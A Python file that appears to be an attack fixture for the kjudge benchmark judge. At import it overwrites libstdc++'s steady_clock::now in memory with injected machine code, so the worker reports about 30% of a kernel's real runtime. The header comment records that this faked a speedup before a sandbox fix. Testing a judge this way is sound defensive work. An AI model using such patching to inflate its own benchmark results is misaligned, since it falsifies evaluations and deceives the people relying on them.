# Attack (timer tampering from a Python candidate, by patching the worker's code): kjudge-worker-py
# times every call with libstdc++'s std::chrono::steady_clock::now (worker/cpu_timer.cpp). At
# import, which runs before the sandbox, this module finds that function (dlsym through ctypes),
# makes its page writable and overwrites its entry with a jump to a fake clock: 58 bytes of
# x86-64 machine code, written by ctypes into an executable page (nothing is compiled), that
# returns CLOCK_MONOTONIC minus a counter in this module's memory. kernel() adds 70% of its own real
# duration to that counter, so every call the worker times reports ~30% of what it took. The
# kernel itself is torch.softmax padded to 1 ms a call: honest, and slower than every baseline.
# The per-sample check (reported <= the controller's wall clock) passes; the back-to-back batch
# clock check (timer_tamper, ratio below 0.6) is only run for C++ candidates before the fix.
# Pre-fix (b5c5f0e), 2-core VM, --budget 3: ok_faster, 1.84x [1.78, 1.97], 345 us reported for
# a ~1.03 ms call; the same file without the patch: ok_not_faster, 0.64x [0.60, 0.65].
# After the fix the import runs inside the sandbox, after the worker sealed its code and runtime
# libraries (mseal): the mprotect fails, the patch is not made, and the kernel's honest ~1 ms a
# call is what the judge reports (harmless; a write into sealed code would be timer_tamper).
# Needs the timing phase.
import ctypes
import mmap
import struct
import time

import torch

_libc = ctypes.CDLL(None, use_errno=True)
_libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
_hidden = ctypes.c_int64(0)  # ns of real time the fake clock does not show
_patched = False


def _patch_steady_clock():
    global _code, _patched
    try:
        target = ctypes.cast(getattr(_libc, "_ZNSt6chrono3_V212steady_clock3nowEv"), ctypes.c_void_p).value
    except AttributeError:
        return
    clock_gettime = ctypes.cast(_libc.clock_gettime, ctypes.c_void_p).value
    # fake_now: { timespec ts; clock_gettime(CLOCK_MONOTONIC, &ts);
    #             return ts.tv_sec * 1e9 + ts.tv_nsec - *hidden; }
    code = (b"\x48\x83\xec\x18"                                   # sub  rsp, 24 (keeps rsp 16-aligned)
            b"\xbf\x01\x00\x00\x00"                               # mov  edi, 1 (CLOCK_MONOTONIC)
            b"\x48\x89\xe6"                                       # mov  rsi, rsp
            b"\x48\xb8" + struct.pack("<Q", clock_gettime) +      # movabs rax, clock_gettime
            b"\xff\xd0"                                           # call rax
            b"\x48\x8b\x04\x24"                                   # mov  rax, [rsp] (tv_sec)
            b"\x48\x69\xc0\x00\xca\x9a\x3b"                       # imul rax, rax, 1000000000
            b"\x48\x03\x44\x24\x08"                               # add  rax, [rsp+8] (tv_nsec)
            b"\x48\xb9" + struct.pack("<Q", ctypes.addressof(_hidden)) +  # movabs rcx, &hidden
            b"\x48\x2b\x01"                                       # sub  rax, [rcx]
            b"\x48\x83\xc4\x18"                                   # add  rsp, 24
            b"\xc3")                                              # ret
    _code = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    _code.write(code)
    fake = ctypes.addressof(ctypes.c_char.from_buffer(_code))
    page = target & ~(mmap.PAGESIZE - 1)
    if _libc.mprotect(page, 2 * mmap.PAGESIZE, 7) != 0:  # PROT_READ | PROT_WRITE | PROT_EXEC
        return
    jump = b"\x48\xb8" + struct.pack("<Q", fake) + b"\xff\xe0"  # movabs rax, fake; jmp rax
    ctypes.memmove(target, jump, len(jump))
    _libc.mprotect(page, 2 * mmap.PAGESIZE, 5)  # PROT_READ | PROT_EXEC
    _patched = True


_patch_steady_clock()


def kernel(x):
    t0 = time.monotonic_ns()  # Python's clock calls clock_gettime itself: not the patched one
    y = torch.softmax(x, dim=-1)
    while time.monotonic_ns() - t0 < 1_000_000:  # at least 1 ms a call: slower than every baseline
        pass
    if _patched:
        _hidden.value += (time.monotonic_ns() - t0) * 7 // 10
    return y
